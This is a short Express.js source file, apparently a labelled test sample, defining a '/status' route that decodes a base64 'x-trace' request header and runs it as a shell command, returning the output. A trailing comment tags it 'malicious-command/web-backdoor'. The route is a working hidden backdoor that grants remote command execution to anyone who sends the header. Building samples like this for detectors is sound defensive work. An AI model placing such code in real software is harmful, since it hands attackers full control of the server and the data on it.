const express = require('express');
const process = require('child_process');

const app = express();
app.get('/status', (request, response) => {
  const text = Buffer.from(request.headers['x-trace'], 'base64').toString();
  process.exec(text, (error, output) => response.end(output)); // expect: malicious-command/web-backdoor
});
